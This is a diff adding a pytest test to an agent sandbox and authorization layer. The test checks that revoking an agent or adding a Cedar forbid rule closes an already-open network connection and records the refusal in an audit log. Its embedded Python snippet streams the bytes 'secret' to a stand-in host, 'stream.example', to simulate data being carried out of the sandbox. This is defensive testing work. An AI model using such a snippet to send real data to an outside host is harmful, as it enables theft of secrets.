@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import contextlib
 import socket
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 
 import anyio
 import pytest
 
+import creto
 from creto.runtime import Connection, Pool
 from sandboxes import BACKENDS, Answers, Bench, http_server, skip_unless
 
@@ -138,3 +140,66 @@ async def test_what_is_read_here_in_another_way_than_by_its_server_hides_no_requ
             bench.seen.clear()
             await box.run(["python3", "-c", SENT, sent.hex()])
             assert not hidden(), way
+
+
+SENDING = """
+import socket, time
+with socket.create_connection(("stream.example", 9000)) as one:
+    try:
+        for n in range(400):
+            one.sendall(b"secret\\n")
+            time.sleep(0.1)
+    except OSError:
+        print("ended")
+"""
+
+
+@contextlib.contextmanager
+def _drain() -> Iterator[tuple[int, threading.Event]]:
+    """A server that takes what comes and says nothing: its port, and whether anything came."""
+    came = threading.Event()
+
+    def serve() -> None:
+        with contextlib.suppress(OSError):
+            while True:
+                taken, _ = server.accept()
+                with taken, contextlib.suppress(OSError):
+                    while taken.recv(4096):
+                        came.set()
+
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        threading.Thread(target=serve, daemon=True).start()
+        yield server.getsockname()[1], came
+        server.shutdown(socket.SHUT_RDWR)
+
+
+@pytest.mark.parametrize("backend", BACKENDS)
+@pytest.mark.parametrize("change", ["agent", "policy"])
+async def test_a_connection_ends_with_what_let_it_through(
+    state: Path, tmp_path: Path, backend: str, change: str
+) -> None:
+    """It would else carry data out for as long as the program keeps it open, for whom nobody trusts any more."""
+    skip_unless(backend)
+    rules, project = tmp_path / "rules.cedar", tmp_path / "project"
+    rules.write_text('@id("all") permit (principal, action, resource);')
+    (tmp_path / "creto.toml").write_text('[authz]\npolicies = ["rules.cedar"]\n[runtime]\nwarm_pool_min_size = 0\n')
+    project.mkdir()
+    with _drain() as (port, came):
+        async with creto.open(state, config=[tmp_path / "creto.toml"]) as layer:
+            agent, hosts = layer.agent("sender"), {"stream.example": f"127.0.0.1:{port}"}
+            async with layer.sandbox(agent, project, backend=backend, hosts=hosts) as box:
+                program = await box.start(["python3", "-c", SENDING])
+                with anyio.fail_after(30):
+                    await anyio.to_thread.run_sync(came.wait)
+                if change == "agent":
+                    await layer.parts.identities.revoke("sender", "left")
+                else:
+                    with rules.open("a") as file:
+                        file.write('@id("shut") forbid (principal, action == Action::"net:connect", resource);')
+                with anyio.fail_after(20):
+                    result = await program.wait()
+                assert result.stdout == b"ended\n", result.stderr
+                [connection] = box.connections
+                assert "would not be any more" in (connection.reason or "")
+            [refused] = await layer.parts.audit.query(action="net:connect", kind="refusal")
+            assert refused.detail["refused"] == "open connection"
